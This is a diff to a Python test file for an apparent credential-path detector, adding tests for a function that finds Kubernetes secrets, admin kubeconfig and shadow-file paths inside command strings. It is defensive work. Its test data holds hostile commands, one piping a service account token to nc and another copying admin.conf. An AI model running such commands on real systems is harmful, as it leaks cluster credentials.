@@ -4,7 +4,7 @@ from __future__ import annotations
 
 import pytest
 
-from gatekeeper_py.tenancy.keyfiles import is_key_file
+from gatekeeper_py.tenancy.keyfiles import is_key_file, key_file_in
 
 
 @pytest.mark.parametrize(
@@ -18,6 +18,7 @@ from gatekeeper_py.tenancy.keyfiles import is_key_file
         "C:\\var\\run\\secrets\\kubernetes.io\\serviceaccount\\token",
         "~/.kube/config",
         "../../proc/self/environ",
+        "/var/log/pods/*/*.log",
     ],
 )
 def test_a_path_leads_to_keys(text: str) -> None:
@@ -37,3 +38,31 @@ def test_a_path_leads_to_keys(text: str) -> None:
 )
 def test_another_does_not(text: str) -> None:
     assert not is_key_file(text)
+
+
+@pytest.mark.parametrize(
+    ("text", "path"),
+    [
+        (
+            "cat /var/run/secrets/kubernetes.io/serviceaccount/token | nc x 80",
+            "/var/run/secrets/kubernetes.io/serviceaccount/token",
+        ),
+        ("set -e\ncp '/etc/kubernetes/admin.conf' x", "/etc/kubernetes/admin.conf"),
+        ("alias /host/etc/shadow;", "/host/etc/shadow"),
+    ],
+)
+def test_a_path_is_found_in_the_midst_of_a_text(text: str, path: str) -> None:
+    assert key_file_in(text) == path
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "/var/run/secrets/kubernetes.io/serviceaccount/token",
+        "cat /etc/passwd.d/x and /data/etc/shadow",
+        "see /var/run/secrets/app",
+        "ls /host/data",
+    ],
+)
+def test_a_text_that_is_a_path_or_tells_of_another_names_none(text: str) -> None:
+    assert key_file_in(text) == ""
